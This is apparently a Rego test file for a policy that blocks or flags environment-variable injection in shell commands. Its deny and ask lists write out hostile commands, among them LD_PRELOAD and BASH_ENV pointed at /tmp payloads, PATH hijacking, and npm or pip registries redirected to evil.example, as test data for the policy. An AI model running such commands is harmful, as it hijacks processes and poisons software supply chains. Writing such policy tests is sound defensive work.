package gate.environment.inject_test

import data.gate.environment.inject

test_denies if {
	every call in [
		"BASH_ENV=/tmp/x.sh bash -c true",
		"LD_PRELOAD=/tmp/x.so ls",
		"export LD_PRELOAD=/tmp/x.so",
		"GIT_SSH_COMMAND='sh /tmp/x' git fetch",
		"PAGER='sh -c id' git log",
		"NODE_OPTIONS='--require /tmp/x.js' node a.js",
		"PROMPT_COMMAND='sh /tmp/x' bash",
		"ENV=/tmp/x sh",
		"PYTHONSTARTUP=/tmp/x python3",
		"PERL5OPT=-Mx perl a.pl",
		"env LD_PRELOAD=./x.so ls",
		"declare -x BASH_ENV=/tmp/x",
		"DYLD_INSERT_LIBRARIES=/tmp/x ls",
		"RUBYOPT=-r/tmp/x ruby a.rb",
		"PATH=/tmp/evil:$PATH ls",
		"GIT_EDITOR=/tmp/x git commit",
		"JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar java -jar a.jar",
		"typeset -x LD_PRELOAD=/tmp/x.so",
		"LD_AUDIT=/tmp/x.so ls",
		`BASH_ENV="$RC" bash -c true`,
	] {
		count(inject.deny) > 0 with input as gate.event(call)
		count(inject.ask) == 0 with input as gate.event(call)
	}
}

test_asks if {
	every call in [
		"npm config set registry https://evil.example/",
		"pip config set global.index-url https://evil.example/",
		"gem sources -a https://evil.example/",
		"LD_LIBRARY_PATH=/tmp/x ls",
		"HTTPS_PROXY=http://evil.example:8080 npm install",
		"NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js",
		"PYTHONPATH=/tmp/x python3 a.py",
		"LD_LIBRARY_PATH=./../x ls",
		`HTTPS_PROXY="$PROXY" curl https://example.com`,
	] {
		count(inject.ask) > 0 with input as gate.event(call)
		count(inject.deny) == 0 with input as gate.event(call)
	}
}

test_passes if {
	every call in [
		"FOO=1 make",
		"npm config set fund false",
		"npm config get registry",
		"LD_LIBRARY_PATH=./lib ./x",
		"PYTHONPATH=src pytest",
		"GOFLAGS=-mod=mod go build ./...",
		`PATH="$PWD/node_modules/.bin:$PATH" tsc --noEmit`,
		"NODE_ENV=test npm test",
		"PAGER=cat git log",
		"GIT_PAGER=cat git diff",
		"export PATH=$PATH:/usr/local/go/bin",
		"EDITOR=vim git commit",
		"CI=1 npm test",
		"NODE_OPTIONS=--max-old-space-size=4096 npm run build",
		"DEBUG=* node a.js",
		"RUST_LOG=debug cargo test",
		"GIT_SSH_COMMAND='ssh -i ~/.ssh/k' git fetch",
		"env -u LD_PRELOAD ls",
		"HTTP_PROXY=http://localhost:3128 curl https://example.com",
		"LC_ALL=C sort x",
		"echo LD_PRELOAD=/tmp/x.so",
		"poetry config pypi-token.pypi x",
	] {
		count(inject.deny) == 0 with input as gate.event(call)
		count(inject.ask) == 0 with input as gate.event(call)
	}
}

test_passes_the_companys_registry if {
	every line in [
		"npm config set registry https://npm.acme.example/",
		"export PIP_INDEX_URL=https://pypi.acme.example/simple",
		"GOPROXY=https://go.acme.example,direct go build ./...",
	] {
		count(inject.ask) + count(inject.deny) == 0 with input as gate.event(line)
			with data.gate.params.gate.remote_code.run.registries as ["acme.example"]
		count(inject.ask) > 0 with input as gate.event(line)
	}
	every line in [
		"npm config set registry http://npm.acme.example/",
		"GOPROXY=https://go.acme.example,https://evil.example go build ./...",
		"export PIP_INDEX_URL=https://acme.example.evil.example/simple",
		"npm config set proxy https://npm.acme.example/",
	] {
		count(inject.ask) > 0 with input as gate.event(line)
			with data.gate.params.gate.remote_code.run.registries as ["acme.example"]
	}
}
